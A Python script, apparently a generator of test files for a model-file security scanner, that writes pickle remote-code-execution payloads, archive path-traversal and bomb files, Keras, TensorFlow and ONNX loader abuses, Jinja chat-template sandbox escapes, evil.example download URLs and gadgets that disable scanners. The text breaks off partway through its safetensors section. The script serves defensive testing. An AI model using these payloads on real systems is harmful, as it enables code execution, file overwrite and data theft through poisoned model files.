"""Writes files that attack whoever loads them, case by case, and a manifest of the least severity that each must get.

Usage: python3 attack-cases.py FOLDER. Nothing here is run: pickles are put together opcode by opcode, archives byte by byte.
Only the standard library is needed; numpy, h5py and onnx add variants where they are installed. The same files every time.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

FOLDER = sys.argv[1]
RANDOM = random.Random(20261124)
ROWS = []


def write(case, variant, name, content, least):
    """Writes one file; `least` is high where a loader would run, read, write or connect, medium where it is merely malformed."""
    path = f"{case:02d}-{variant}-{name}"
    with open(os.path.join(FOLDER, path), "wb") as file:
        file.write(content)
    ROWS.append(f"{case}\t{variant}\t{path}\t{least}")


# --- pickle opcodes -------------------------------------------------------------------------------------------------------------------


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


def call(callee, *arguments, closing=b"R"):
    return callee + b"(" + b"".join(arguments) + b"t" + closing


def proto(version, body):
    return b"\x80" + bytes([version]) + body + b"."


COMMAND = text("touch /tmp/assay-was-here")
SYSTEM = call(glob("posix", "system"), COMMAND)
ATTACK = proto(2, SYSTEM)
ATTACK4 = proto(4, call(stack_global("os", "system"), COMMAND))
BENIGN = proto(2, b"}(" + text("weights") + b"](K\x01K\x02K\x03eu")


def pickles():
    write(1, "global-reduce", "a.pkl", glob("posix", "system") + b"(S'id'\ntR.", "high")
    write(1, "nt", "a.pkl", glob("nt", "system") + b"(Vcalc.exe\ntR.", "high")
    write(1, "tuple1", "a.pkl", proto(2, glob("os", "popen") + COMMAND + b"\x85R"), "high")
    write(2, "stack-global", "a.pkl", ATTACK4, "high")
    write(2, "subprocess", "a.bin", proto(4, call(stack_global("subprocess", "check_output"), COMMAND)), "high")
    write(3, "memo", "a.pkl", proto(4, text("posix") + b"\x94" + text("system") + b"\x9400h\x00h\x01\x93" + COMMAND + b"\x85R"), "high")
    write(4, "pop-memo", "a.pkl", proto(4, text("os") + b"K\x010" + b"\x940" + b"h\x00" + text("system") + b"\x93" + COMMAND + b"\x85R"), "high")
    write(5, "two-puts", "a.pkl", proto(2, text("posix") + b"q\x00q\x010h\x01" + text("system") + b"\x93" + COMMAND + b"\x85R"), "high")
    write(6, "inst", "a.pkl", b"(S'id'\niposix\nsystem\n.", "high")
    write(7, "obj", "a.pkl", b"(" + glob("os", "system") + b"S'id'\no.", "high")
    write(8, "newobj", "a.pkl", proto(2, glob("subprocess", "Popen") + b"(" + COMMAND + b"t\x81"), "high")
    write(9, "newobj-ex", "a.pkl", proto(4, stack_global("subprocess", "Popen") + b"(" + COMMAND + b"t}\x92"), "high")
    imported = call(glob("builtins", "__import__"), text("os"))
    write(10, "getattr-import", "a.pkl", proto(2, call(call(glob("builtins", "getattr"), imported, text("system")), COMMAND)), "high")
    write(11, "import-alone", "a.pkl", proto(2, call(glob("builtins", "__import__"), text("antigravity"))), "high")
    write(11, "builtin2", "a.pkl", proto(2, call(glob("__builtin__", "eval"), text("1+1"))), "high")
    write(12, "importlib", "a.pkl", proto(2, call(glob("importlib", "import_module"), text("this"))), "high")
    write(12, "runpy", "a.pkl", proto(2, call(glob("runpy", "run_path"), text("/tmp/x.py"))), "high")
    write(13, "attrgetter", "a.pkl", proto(2, call(call(glob("operator", "attrgetter"), text("system")), call(glob("importlib", "import_module"), text("os")))), "high")
    write(13, "methodcaller", "a.pkl", proto(2, call(call(glob("operator", "methodcaller"), text("system"), COMMAND), call(glob("importlib", "import_module"), text("os")))), "high")
    write(14, "partial", "a.pkl", proto(2, call(call(glob("functools", "partial"), glob("os", "system"), COMMAND))), "high")
    write(15, "functools-reduce", "a.pkl", proto(2, call(glob("functools", "reduce"), glob("builtins", "getattr"), b"](" + imported + text("system") + b"e")), "high")
    write(15, "map", "a.pkl", proto(2, call(glob("builtins", "list"), call(glob("builtins", "map"), glob("os", "system"), b"](" + COMMAND + b"e"))), "high")
    write(16, "build-state", "a.pkl", proto(2, call(glob("argparse", "Namespace")) + b"}(" + text("run") + glob("os", "system") + b"ub"), "high")
    code = call(glob("types", "CodeType"), b"K\x00K\x00K\x00K\x00K\x01K\x43", b"C\x04d\x00S\x00")
    write(17, "build-code", "a.pkl", proto(3, call(glob("types", "FunctionType"), code, b"}") + b"}(" + text("__code__") + code + b"ub"), "high")
    write(17, "marshal", "a.pkl", proto(3, call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), b"C\x05\xe3abcd"), b"}"))), "high")
    for opcode, argument in ((b"\x82", b"\x07"), (b"\x83", b"\x07\x01"), (b"\x84", b"\x07\x01\x00\x01")):
        write(18, f"ext{len(argument)}", "a.pkl", proto(2, opcode + argument + b"(" + COMMAND + b"tR"), "medium")
    write(19, "second-stream", "a.pkl", BENIGN + ATTACK, "high")
    write(19, "fifth-stream", "a.pth", BENIGN * 4 + ATTACK4, "high")
    write(20, "invalid-opcode", "a.pkl", b"\x80\x02" + SYSTEM + b"\xff\xfe\xfd", "high")
    write(21, "no-stop", "a.pkl", b"\x80\x02" + SYSTEM, "high")
    write(22, "one-mebibyte", "a.pkl", proto(4, b"X" + struct.pack("<I", 1 << 20) + b"A" * (1 << 20) + b"0" + SYSTEM), "high")
    write(23, "frame-lies", "a.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + SYSTEM + b".", "high")
    write(23, "frame-huge", "a.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + SYSTEM + b".", "high")
    hidden = SYSTEM + b"."
    write(24, "frame-divergence", "a.pkl", b"\x80\x04\x95" + struct.pack("<Q", 10) + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0" + b"N.", "medium")
    write(25, "dotted", "a.pkl", proto(4, call(stack_global("logging", "os.system"), COMMAND)), "high")
    write(25, "dotted-shutil", "a.pkl", proto(4, call(stack_global("shutil", "os.system"), COMMAND)), "high")
    write(26, "sys-modules", "a.pkl", proto(4, stack_global("collections", "_sys.modules")), "medium")
    write(26, "sys-modules-get", "a.pkl", proto(4, call(call(stack_global("collections", "_sys.modules.get"), text("os")))), "high")
    inner = ATTACK
    write(27, "nested-loads", "a.pkl", proto(5, call(stack_global("_pickle", "loads"), b"\x96" + struct.pack("<Q", len(inner)) + inner)), "high")
    for module, name in (("joblib", "load"), ("numpy", "load"), ("pandas", "read_pickle"), ("dill", "loads"), ("torch", "load"), ("pickle", "load"), ("shelve", "open"), ("cloudpickle", "loads"), ("jsonpickle", "decode")):
        write(28, f"{module}", "a.pkl", proto(4, call(stack_global(module, name), text("/tmp/x.pkl"))), "high")
    write(28, "load-from-bytes", "a.pkl", proto(4, call(stack_global("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(inner)) + inner)), "high")
    write(29, "put-global", "a.pkl", proto(4, glob("os", "system") + b"q\x05" + b"0h\x05" + COMMAND + b"\x85R"), "high")
    write(30, "binput-memoize", "a.pkl", proto(4, text("os") + b"q\x00" + text("system") + b"\x940h\x01" + b"0" + b"h\x00h\x01\x93" + COMMAND + b"\x85R"), "high")
    write(31, "never-called", "a.pkl", proto(2, b"](" + glob("os", "system") + b"e"), "high")
    write(31, "never-called-unknown", "a.pkl", proto(2, b"](" + glob("some_package.tools", "helper") + b"e"), "medium")
    write(32, "raw-in-bytes", "a.pkl", proto(4, b"}(" + text("blob") + b"B" + struct.pack("<I", len(inner)) + inner + b"u"), "high")
    write(32, "base64-in-str", "a.pkl", proto(4, b"}(" + text("blob") + text(base64.b64encode(inner).decode()) + b"u"), "high")
    gadgets = [
        ("ctypes", "CDLL"), ("ctypes.util", "find_library"), ("webbrowser", "open"), ("http.server", "test"), ("smtplib", "SMTP"), ("ftplib", "FTP"),
        ("urllib.request", "urlretrieve"), ("socket", "create_connection"), ("ssl", "get_server_certificate"), ("shutil", "rmtree"), ("os", "remove"),
        ("pathlib", "Path.write_text"), ("tempfile", "NamedTemporaryFile"), ("zipfile", "ZipFile"), ("sqlite3", "connect"), ("code", "interact"),
        ("codeop", "compile_command"), ("timeit", "timeit"), ("trace", "Trace"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"), ("bdb", "Bdb.run"),
        ("doctest", "debug_script"), ("pydoc", "pipepager"), ("pydoc", "locate"), ("pty", "spawn"), ("asyncio", "create_subprocess_shell"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("multiprocessing.util", "spawnv_passfds"), ("distutils.spawn", "spawn"),
        ("distutils.file_util", "write_file"), ("idlelib.run", "Executive.runcode"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("lib2to3.pgen2.pgen", "ParserGenerator"), ("lib2to3.pgen2.grammar", "Grammar.loads"), ("ensurepip", "_run_pip"), ("venv", "create"), ("uuid", "_get_command_stdout"),
        ("platform", "popen"), ("imaplib", "IMAP4_stream"), ("test.support.script_helper", "run_python_until_end"), ("numpy.testing._private.utils", "runstring"),
        ("numpy.f2py.crackfortran", "myeval"), ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.distutils.exec_command", "exec_command"),
        ("torch.utils.bottleneck.__main__", "run_cprofile"), ("torch.utils.collect_env", "run"), ("torch._dynamo.guards", "GuardBuilder.get"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch._inductor.codecache", "compile_file"), ("torch.hub", "load"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("pip", "main"), ("setuptools.sandbox", "run_setup"), ("sympy", "sympify"), ("pandas.core.computation.eval", "eval"), ("yaml", "unsafe_load"), ("jinja2", "Template.render"),
        ("mako.template", "Template"), ("requests", "get"), ("aiohttp.client", "ClientSession"), ("httplib", "HTTPSConnection"), ("commands", "getoutput"), ("popen2", "popen2"),
        ("builtins", "exec"), ("builtins", "compile"), ("builtins", "open"), ("io", "FileIO"), ("io", "open_code"), ("_io", "open"), ("logging", "FileHandler"), ("logging.config", "fileConfig"),
        ("linecache", "getline"), ("fileinput", "input"), ("gc", "get_objects"), ("inspect", "getsource"), ("sys", "settrace"), ("signal", "signal"), ("threading", "Thread"), ("faulthandler", "_sigsegv"),
        ("cgitb", "lookup"), ("mailcap", "findmatch"), ("nturl2path", "url2pathname"), ("tkinter", "Tcl"), ("wsgiref.simple_server", "make_server"), ("xmlrpc.server", "SimpleXMLRPCServer"),
        ("telnetlib", "Telnet"), ("poplib", "POP3"), ("nntplib", "NNTP"), ("socketserver", "TCPServer"), ("concurrent.futures.process", "_python_exit"), ("atexit", "register"),
        ("keras.models", "load_model"), ("tensorflow.io", "read_file"), ("mlflow.pyfunc", "load_model"), ("transformers", "AutoModel.from_pretrained"), ("fsspec", "open"), ("gdown", "download"),
    ]
    for module, name in gadgets:
        write(33, f"{module}.{name}".replace("/", "_"), "a.pkl", proto(4, call(stack_global(module, name), COMMAND)), "high")
    bomb = b"](" + text("lol") * 10 + b"e" + b"q\x00" + b"".join(b"](" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9 + b"eq" + bytes([level + 1]) for level in range(40))
    write(35, "billion-laughs", "a.pkl", proto(2, bomb), "medium")
    write(35, "dup", "a.pkl", proto(2, b"](" + text("lol") + b"e" + b"".join(b"2\x86" for _ in range(60))), "medium")
    write(36, "nested-lists", "a.pkl", b"(" * 200_000 + b"l" * 200_000 + b".", "medium")
    write(36, "nested-with-payload", "a.pkl", b"(" * 100_000 + SYSTEM + b"l" * 100_000 + b".", "high")
    for module, name in (("picklescan.scanner", "_safe_globals.clear"), ("fickling.hook", "remove_hook"), ("modelscan.settings", "DEFAULT_SETTINGS.clear")):
        write(37, module, "a.pkl", proto(4, call(stack_global(module, name))), "high")


# --- containers -----------------------------------------------------------------------------------------------------------------------


def zipped(members, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, content)
    return buffer.getvalue()


def torch_zip(pickled, extra=()):
    return zipped([("archive/data.pkl", pickled), ("archive/version", b"3\n"), ("archive/data/0", struct.pack("<8f", *range(8))), *extra])


def patched(data, signature, offset, value, count=1):
    """Sets a 16-bit field of the first headers with this signature."""
    bytes_ = bytearray(data)
    at = -1
    for _ in range(count):
        at = bytes_.find(signature, at + 1)
        bytes_[at + offset : at + offset + len(value)] = value
    return bytes(bytes_)


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def tarred(members, mode="w", kind=tarfile.PAX_FORMAT):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=kind) as archive:
        for name, content in members:
            info = name if isinstance(name, tarfile.TarInfo) else tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def link(name, target, kind=tarfile.SYMTYPE):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def containers():
    evil = torch_zip(ATTACK)
    write(38, "crc-both", "a.pt", patched(patched(evil, LOCAL, 14, b"\0\0\0\0"), CENTRAL, 16, b"\0\0\0\0"), "high")
    write(38, "crc-local", "a.pt", patched(evil, LOCAL, 14, b"\1\2\3\4"), "high")
    for bit in (0x1, 0x20, 0x40):
        write(39, f"flag-{bit:x}-local", "a.pt", patched(evil, LOCAL, 6, struct.pack("<H", bit)), "high")
        write(39, f"flag-{bit:x}-both", "a.pt", patched(patched(evil, LOCAL, 6, struct.pack("<H", bit)), CENTRAL, 8, struct.pack("<H", bit)), "high")
    write(40, "local-name", "a.pt", patched(evil, LOCAL, 30, b"archive/x"), "high")
    write(40, "central-name", "a.pt", patched(evil, CENTRAL, 46, b"archivex"), "high")
    write(41, "evil-first", "a.pt", zipped([("archive/data.pkl", ATTACK), ("archive/data.pkl", BENIGN), ("archive/version", b"3\n")]), "high")
    write(41, "evil-last", "a.pt", zipped([("archive/data.pkl", BENIGN), ("archive/data.pkl", ATTACK), ("archive/version", b"3\n")]), "high")
    write(42, "prefix", "a.pt", b"JUNKJUNK" + evil, "high")
    write(42, "prefix-long", "a.bin", RANDOM.randbytes(5000) + evil, "high")
    write(43, "method-local", "a.pt", patched(evil, LOCAL, 8, struct.pack("<H", 97)), "high")
    write(43, "method-both", "a.pt", patched(patched(evil, LOCAL, 8, struct.pack("<H", 97)), CENTRAL, 10, struct.pack("<H", 97)), "high")
    magic = proto(2, b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19")
    legacy = [magic, proto(2, b"M\xe9\x03"), BENIGN, BENIGN, proto(2, b"](" + text("0") + b"e")]
    for place in range(1, 5):
        parts = list(legacy)
        parts[place] = ATTACK
        write(44, f"legacy-{place}", "a.pth", b"".join(parts) + struct.pack("<q8f", 8, *range(8)), "high")
    old = [("sys_info", BENIGN), ("pickle", ATTACK), ("storages", proto(2, b"K\x00")), ("tensors", proto(2, b"K\x00"))]
    write(45, "legacy-tar", "a.pt", tarred(old), "high")
    write(45, "legacy-tar-v7", "a.pt", tarred(old, kind=tarfile.USTAR_FORMAT), "high")
    write(45, "legacy-tar-storages", "a.pt", tarred([("sys_info", BENIGN), ("pickle", BENIGN), ("storages", proto(2, b"K\x01") + ATTACK), ("tensors", proto(2, b"K\x00"))]), "high")
    for name in ("a.bin", "a.pth", "a.pt", "model.safetensors", "a.onnx", "a.h5", "a.gguf", "a.npy", "a.json", "a.txt", "a.csv", "a.yaml", "a.tar", "a", "a.PKL", "weights.model"):
        write(46 if name in ("a.bin", "a.pth") else 47, "plain-pickle-as-" + name.replace(".", "-"), name, ATTACK if RANDOM.random() < 0.5 else ATTACK4, "high")
    write(48, "member-name", "a.pt", zipped([("archive/data.pkl", BENIGN), ("archive/config.p", SYSTEM + b"."), ("archive/version", b"3\n")]), "high")
    write(48, "member-txt", "a.pt", zipped([("archive/data.pkl", BENIGN), ("archive/notes.txt", glob("os", "system") + b"(S'id'\ntR.")]), "high")
    write(49, "zip-in-zip", "a.zip", zipped([("inner.zip", zipped([("m.pt", evil)], zipfile.ZIP_DEFLATED))]), "high")
    write(50, "tar-gz", "a.tar.gz", gzip.compress(tarred([("m/model.pkl", ATTACK)]), mtime=0), "high")
    write(50, "tar-bz2", "a.tar.bz2", bz2.compress(tarred([("m/model.pkl", ATTACK)])), "high")
    write(50, "tar-xz", "a.tar.xz", lzma.compress(tarred([("m/model.pkl", ATTACK)])), "high")
    write(50, "zip-of-gz-of-tar", "a.zip", zipped([("x.tgz", gzip.compress(tarred([("y.xz", lzma.compress(ATTACK))]), mtime=0))]), "high")
    write(51, "zip-traversal", "a.zip", zipped([("../../etc/cron.d/x", b"* * * * * root id\n")]), "high")
    write(51, "zip-absolute", "a.zip", zipped([("/etc/cron.d/x", b"* * * * * root id\n")]), "high")
    write(51, "zip-backslash", "a.zip", zipped([("..\\..\\windows\\x.dll", b"MZ")]), "high")
    write(51, "tar-traversal", "a.tar", tarred([("../../root/.ssh/authorized_keys", b"ssh-ed25519 x\n")]), "high")
    write(51, "tar-symlink", "a.tar", tarred([(link("model", "/etc"), b""), ("model/passwd", b"x")]), "high")
    write(51, "tar-hardlink", "a.tar", tarred([(link("model", "../../etc/passwd", tarfile.LNKTYPE), b"")]), "high")
    write(52, "zip-bomb", "a.zip", zipped([("zeros.bin", bytes(40_000_000))], zipfile.ZIP_DEFLATED), "medium")
    write(52, "gzip-bomb", "a.gz", gzip.compress(bytes(60_000_000), mtime=0), "medium")
    script = "class Evil(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.Evil, x: Tensor) -> Tensor:\n    {}\n    return x\n"
    for name, line in (("save", 'torch.save(x, "/tmp/x")'), ("from-file", '_0 = torch.from_file("/etc/passwd", False, 10, dtype=0)'), ("ops-save", "ops.aten.save(x, \"/tmp/x\")"), ("python-op", '_0 = ^os.system("id")(x)')):
        members = [("m/code/__torch__.py", script.format(line).encode()), ("m/constants.pkl", proto(2, b")"))]
        write(53, f"torchscript-{name}", "a.pt", torch_zip(BENIGN, members), "high")
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + ATTACK
    write(54, "object-array", "a.npy", npy, "high")
    write(54, "npz", "a.npz", zipped([("arr_0.npy", npy)], zipfile.ZIP_DEFLATED), "high")
    write(55, "joblib-zlib", "a.joblib", zlib.compress(ATTACK), "high")
    write(55, "joblib-gzip", "a.joblib", gzip.compress(ATTACK, mtime=0), "high")
    write(55, "joblib-bz2", "a.joblib", bz2.compress(ATTACK), "high")
    write(55, "joblib-xz", "a.joblib", lzma.compress(ATTACK), "high")
    write(55, "joblib-lzma", "a.joblib", lzma.compress(ATTACK, format=lzma.FORMAT_ALONE), "high")
    write(55, "encrypted", "a.zip", patched(patched(zipped([("m.pkl", RANDOM.randbytes(200))]), LOCAL, 6, b"\1\0"), CENTRAL, 8, b"\1\0"), "medium")


# --- frameworks -----------------------------------------------------------------------------------------------------------------------


def field(number, wire, payload):
    key = varint(number << 3 | wire)
    return key + varint(len(payload)) + payload if wire == 2 else key + payload


def varint(value):
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def message(number, *parts):
    return field(number, 2, b"".join(parts))


def string(number, value):
    return field(number, 2, value.encode() if isinstance(value, str) else value)


def keras():
    layer = lambda kind, config, **more: {"module": "keras.layers", "class_name": kind, "config": config, "registered_name": None, **more}
    dense = layer("Dense", {"name": "d", "units": 1})
    lam = layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + bytes(40) + b"os\nsystem").decode(), "defaults": None, "closure": None}}})
    model = lambda *layers, kind="Sequential": {"module": "keras", "class_name": kind, "config": {"name": "m", "layers": list(layers)}, "registered_name": kind}
    file = lambda config, extra=(): zipped([("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}).encode()), ("config.json", json.dumps(config).encode()), ("model.weights.h5", b""), *extra])
    write(56, "lambda", "a.keras", file(model(dense, lam)), "high")
    write(56, "lambda-nested", "a.keras", file(model(model(model(lam)))), "high")
    write(56, "lambda-time-distributed", "a.keras", file(model(layer("TimeDistributed", {"name": "t", "layer": lam}))), "high")
    write(56, "module-os", "a.keras", file(model({"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": "system"})), "high")
    write(56, "module-unknown", "a.keras", file(model({"module": "evil_package.layers", "class_name": "Thing", "config": {}, "registered_name": "x>Thing"})), "high")
    write(56, "get-file", "a.keras", file(model({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "https://evil.example/x", "fname": "x"}, "registered_name": "get_file"})), "high")
    write(56, "torch-module", "a.keras", file(model(layer("TorchModuleWrapper", {"module": base64.b64encode(ATTACK).decode()}))), "high")
    write(56, "string-lookup", "a.keras", file(model(layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd"}))), "high")
    write(56, "text-vectorization", "a.keras", file(model(layer("TextVectorization", {"name": "s", "vocabulary": "file:///etc/passwd"}))), "high")
    write(56, "tfsm", "a.keras", file(model(layer("TFSMLayer", {"filepath": "/tmp/saved", "call_endpoint": "serve"}))), "high")
    write(56, "custom-loss-function", "a.keras", file({**model(dense), "compile_config": {"loss": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}}}), "high")
    write(56, "unsafe-config", "a.keras", file(model({"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": "enable_unsafe_deserialization"}, lam)), "high")
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + ATTACK
    write(56, "npz-weights", "a.keras", file(model(dense), [("model.weights.npz", zipped([("w.npy", npy)]))]), "high")
    try:
        import h5py
    except ImportError:
        return
    def h5(name, fill, least="high"):
        path = os.path.join(FOLDER, "h5.tmp")
        with h5py.File(path, "w") as out:
            fill(out)
        with open(path, "rb") as made:
            write(56, name, "a.h5", made.read(), least)
        os.remove(path)
    def attribute(config):
        def fill(out):
            out.attrs["keras_version"] = "2.11.0"
            out.attrs["backend"] = "tensorflow"
            out.attrs["model_config"] = json.dumps(config)
            out.create_group("model_weights")
        return fill
    legacy = lambda *layers: {"class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}}
    old_lambda = {"class_name": "Lambda", "config": {"name": "l", "function_type": "lambda", "function": [base64.b64encode(b"\xe3" + bytes(60)).decode(), None, None], "module": "__main__"}}
    h5("h5-lambda", attribute(legacy(old_lambda)))
    h5("h5-lambda-nested", attribute(legacy({"class_name": "Bidirectional", "config": {"layer": {"class_name": "TimeDistributed", "config": {"layer": old_lambda}}}})))
    h5("h5-lambda-by-name", attribute(legacy({"class_name": "Lambda", "config": {"name": "l", "function_type": "function", "function": "system", "module": "os"}})))
    h5("h5-external-link", lambda out: out.__setitem__("weights", h5py.ExternalLink("/etc/other.h5", "/secret")))
    h5("h5-external-storage", lambda out: out.create_dataset("w", (8,), dtype="u1", external=[("/etc/passwd", 0, 8)]))
    h5("h5-pickle-in-data", lambda out: out.create_dataset("w", data=list(ATTACK), dtype="u1"))


def tensorflow():
    def attr(name, *value):
        return message(5, string(1, name), message(2, *value))
    def node(name, op, inputs=(), *attributes):
        return message(1, string(1, name), string(2, op), *(string(3, each) for each in inputs), *attributes)
    def constant(name, value):
        tensor = field(1, 0, varint(7)) + message(2) + string(8, value)
        return node(name, "Const", (), attr("dtype", field(6, 0, varint(7))), attr("value", message(8, tensor)))
    def library(*nodes):
        return message(2, message(1, message(1, string(1, "f")), *(each.replace(b"\x0a", b"\x1a", 1) for each in nodes)))
    def saved(graph):
        return field(1, 0, varint(1)) + message(2, message(1, string(4, "serve"), string(5, "2.11.0")), message(2, graph))
    path = constant("path", "/etc/cron.d/x")
    body = constant("body", "* * * * * root id")
    cases = {
        "pyfunc": node("p", "PyFunc", ("path",), attr("token", string(2, "pyfunc_0"))),
        "eager-pyfunc": node("p", "EagerPyFunc", ("path",), attr("token", string(2, "pyfunc_0"))),
        "write-file": node("w", "WriteFile", ("path", "body")),
        "read-file": node("r", "ReadFile", ("path",)),
        "matching-files": node("r", "MatchingFiles", ("path",)),
        "save": node("s", "SaveV2", ("path", "body", "body", "body")),
        "print-file": node("s", "PrintV2", ("body",), attr("output_stream", string(2, "file:///etc/x"))),
        "data-service": node("s", "DataServiceDatasetV2", ("path",)),
        "debug": node("s", "DebugIdentityV2", ("body",), attr("debug_urls", message(1, string(2, "grpc://evil.example:1")))),
        "rpc": node("s", "RpcCall", ("path",)),
    }
    for name, evil in cases.items():
        write(57, name, "saved_model.pb", saved(path + body + evil), "high")
        write(57, f"{name}-in-function", "saved_model.pb", saved(constant("x", "y") + library(path, body, evil)), "high")
    write(57, "frozen", "graph.pb", path + body + cases["write-file"], "high")
    write(57, "tfjs", "model.json", json.dumps({"format": "graph-model", "modelTopology": {"node": [{"name": "r", "op": "ReadFile", "input": ["p"]}]}, "weightsManifest": [{"paths": ["https://evil.example/w.bin"], "weights": []}]}).encode(), "high")
    write(57, "tfjs-traversal", "model.json", json.dumps({"format": "layers-model", "modelTopology": {"class_name": "Sequential", "config": {"layers": []}}, "weightsManifest": [{"paths": ["../../../etc/passwd"], "weights": []}]}).encode(), "high")


def onnx():
    def tensor(name, location=None, data=b"\0\0\0\0", dims=(1,)):
        parts = [field(1, 0, varint(each)) for each in dims] + [field(2, 0, varint(1)), string(8, name)]
        if location is None:
            parts.append(field(9, 2, data))
        else:
            parts += [message(13, string(1, "location"), string(2, location)), field(14, 0, varint(1))]
        return message(5, *parts)
    def node(op, domain="", extra=b""):
        return message(1, string(1, "x"), string(2, "y"), string(3, "n"), string(4, op), string(7, domain), extra)
    def model(*graph, functions=b"", opset=("", 17)):
        return field(1, 0, varint(8)) + string(2, "assay") + message(7, *graph, string(2, "g"), message(11, string(1, "x")), message(12, string(1, "y"))) + message(8, string(1, opset[0]), field(2, 0, varint(opset[1]))) + functions
    for name, location in (("traversal", "../../etc/passwd"), ("absolute", "/etc/passwd"), ("windows", "C:\\x"), ("backslash", "..\\..\\x"), ("url", "https://evil.example/w")):
        write(58, f"external-{name}", "a.onnx", model(node("Identity"), tensor("w", location)), "high")
    write(58, "custom-domain", "a.onnx", model(node("RunCommand", "com.evil")) + message(8, string(1, "com.evil"), field(2, 0, varint(1))), "medium")
    write(58, "python-op", "a.onnx", model(node("PyOp", "ai.onnx.contrib")) + message(8, string(1, "ai.onnx.contrib"), field(2, 0, varint(1))), "high")
    write(58, "dims", "a.onnx", model(node("Identity"), tensor("w", dims=((1 << 62),))), "medium")
    write(58, "string-pickle", "a.onnx", model(node("Identity"), message(5, field(1, 0, varint(1)), field(2, 0, varint(8)), string(8, "w"), field(6, 2, ATTACK))), "high")


def gguf():
    def text64(value):
        data = value.encode()
        return struct.pack("<Q", len(data)) + data
    def key(name, value):
        return text64(name) + struct.pack("<I", 8) + text64(value)
    def file(pairs, tensors=b"", count=0, n_kv=None):
        return b"GGUF" + struct.pack("<IQQ", 3, count, len(pairs) if n_kv is None else n_kv) + b"".join(pairs) + tensors
    architecture = key("general.architecture", "llama")
    templates = {
        "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen('id').read() }}",
        "attr-filter": "{{ messages|attr('__cla' ~ 'ss__')|attr('__ba' + 'se__') }}",
        "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "lipsum": "{% set x = lipsum.__globals__ %}{{ x['os'].system('id') }}",
        "hex": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "request": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "loop": "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id') }}{% endif %}{% endfor %}",
        "format": "{{ '{0.__class__}'.format(messages) }}",
        "join": "{{ messages|attr(['__','class','__']|join) }}",
        "set-chain": "{% set a = '__glo' %}{% set b = 'bals__' %}{{ cycler.__init__[a ~ b]['os'] }}",
    }
    for name, template in templates.items():
        write(59, f"template-{name}", "a.gguf", file([architecture, key("tokenizer.chat_template", template)]), "high")
        write(59, f"tokenizer-{name}", "tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode(), "high")
        write(59, f"jinja-{name}", "chat_template.jinja", ("{% for message in messages %}{{ message.role }}{% endfor %}" + template).encode(), "high")
    write(59, "template-named", "a.gguf", file([architecture, key("tokenizer.chat_template.tool_use", templates["subclasses"])]), "high")
    write(59, "n-kv", "a.gguf", file([architecture], n_kv=1 << 63), "medium")
    tensor = text64("w") + struct.pack("<I", 4) + struct.pack("<QQQQ", 1 << 62, 4, 1, 1) + struct.pack("<IQ", 0, 0)
    write(59, "dim", "a.gguf", file([architecture], tensor, 1), "medium")
    write(59, "string-length", "a.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", (1 << 64) - 8) + b"abc", "medium")
    write(59, "n-dims", "a.gguf", file([architecture], text64("w") + struct.pack("<I", 4_000_000), 1), "medium")


def safetensors():
    def file(header, data=b"", length=None):
        raw = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(raw) if length is None else length) + raw + data
